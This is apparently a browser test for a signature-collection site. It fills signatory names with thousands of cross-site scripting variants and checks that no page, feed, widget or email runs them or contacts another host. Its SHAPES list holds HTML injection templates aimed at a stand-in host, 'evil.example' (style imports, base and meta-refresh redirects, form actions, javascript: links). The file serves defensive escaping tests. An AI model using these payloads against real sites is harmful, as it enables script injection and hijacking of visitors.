"""Names that the form would never let in, on every face that shows one, in a browser: they run nothing and ask nobody."""

import os
import time
from collections.abc import Callable
from itertools import product
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect
from sqlmodel import col, select

from app.clock import utcnow
from app.signatures.models import Signature
from app.signatures.tallies import Tally
from app.web.templates import render_text
from tests import cast
from tests.browser.acts import sign_in, window
from tests.browser.live import MODERATOR, Elsewhere, Live, running
from tests.feeds.lists import many
from tests.moderation.test_escaping import PAYLOADS
from tests.test_names import HOSTILE

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PAGE = f"/statements/{cast.SLUG}"
AT_ONCE = 100
COUNT = 6000 if os.environ.get("UNDERSIGNED_PROOF") else AT_ONCE
SHAPES = (
    *(
        "{script}",
        "{odd}",
        "{odd}{script}",
        "{script}{odd}",
        "<a href='javascript:{script}'>{odd}</a>",
        "<iframe srcdoc='{script}'>{odd}",
        "<!--{odd}-->{script}",
    ),
    *(
        "<style>@import '//evil.example/{odd}';</style>{script}",
        "<base href='//evil.example/'>{odd}{script}",
        "<link rel=stylesheet href='//evil.example/{odd}'>",
    ),
    *("<meta http-equiv=refresh content='0;url=//evil.example/{odd}'>", "<form action='//evil.example'>{odd}{script}", "<math><mtext><{odd}{script}"),
)


def names() -> list[str]:
    """Thousands of different ones: what would run, in what shape, beside what oddity of Unicode."""
    odd = [one["value"] for one in HOSTILE if "\0" not in one["value"]]
    made = (shape.format(script=script, odd=strange) for strange, script, shape in product(odd, PAYLOADS, SHAPES))
    return list(dict.fromkeys((*PAYLOADS, *filter(str.strip, odd), *made)))[:COUNT]


def test_hostile_names_run_nothing_and_ask_nobody_on_any_face(elsewhere: Elsewhere, chromium: Browser, tmp_path: Path) -> None:
    hostile, seen = names(), list[str]()
    assert len(hostile) == COUNT
    with running(tmp_path) as site, window(chromium) as page:
        site.publish(cast.statement(front=many(AT_ONCE)))
        site.create_account(MODERATOR, "moderator")
        _watch(page, seen, lambda url: url.startswith((site.base, elsewhere.base, "about:", "data:")))
        sign_in(page, site.base, MODERATOR)
        for start in range(0, COUNT, AT_ONCE):
            _rename(site, hostile[start : start + AT_ONCE])
            _visit(page, site)
            page.goto(elsewhere.put("/letters", "".join(_letter(name) for name in hostile[start : start + AT_ONCE])))
            assert set(hostile[start : start + AT_ONCE]) <= set(_in_the_element(page, site, elsewhere))
    assert seen == []


def _watch(page: Page, seen: list[str], ours: Callable[[str], bool]) -> None:
    """Note dialogs, requests to others, and pages that went elsewhere."""

    def spoken(dialog: Dialog) -> None:
        seen.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", spoken)
    page.on("request", lambda request: None if ours(request.url) else seen.append(request.url))
    page.on("framenavigated", lambda frame: None if ours(frame.url) else seen.append(frame.url))


def _visit(page: Page, site: Live) -> None:
    """Every public face, and the console where it lists who has signed."""
    for address in (PAGE, f"{PAGE}/signatories", f"{PAGE}/signatories?order=name", f"/embed/{cast.SLUG}?layout=full", "/console/published"):
        answer = page.goto(site.base + address)
        assert answer
        assert answer.status == 200, address
    for address in (f"{PAGE}/signatories.json", f"{PAGE}/feed.json", f"{PAGE}/feed.atom"):
        page.goto(site.base + address)


def _letter(name: str) -> str:
    """No letter shows a name of somebody else; what a moderator writes is shown, and the title."""
    context = {"reason": name, "title": name, "slug": cast.SLUG, "token": "token", "code": "123 456", "contact": ""}
    return render_text("en", "emails/rejected/body.html", **context)


def _in_the_element(page: Page, site: Live, elsewhere: Elsewhere) -> list[str]:
    """The names in the element on another site's page."""
    element = f'<undersigned-signatories statement="{site.base}{PAGE}" layout="full"><a href="{site.base}{PAGE}">The statement</a></undersigned-signatories>'
    page.goto(elsewhere.put("/names", f'{element}<script type="module" src="{site.base}/widget.js"></script>'))
    expect(page.locator("undersigned-signatories .count")).to_be_visible()
    found: list[str] = page.evaluate(
        "[...document.querySelector('undersigned-signatories').shadowRoot.querySelectorAll('.name')].map((one) => one.textContent)"
    )
    return found


def _rename(site: Live, names: list[str]) -> None:
    """Put names into the list that the form would never let in."""
    with site.database.transaction() as session:
        for row, name in zip(session.exec(select(Signature).order_by(col(Signature.number))), names, strict=True):
            row.name = row.organisation = name
        session.exec(select(Tally)).one().turn(utcnow())
    time.sleep(0.6)  # until the server has seen the new revision
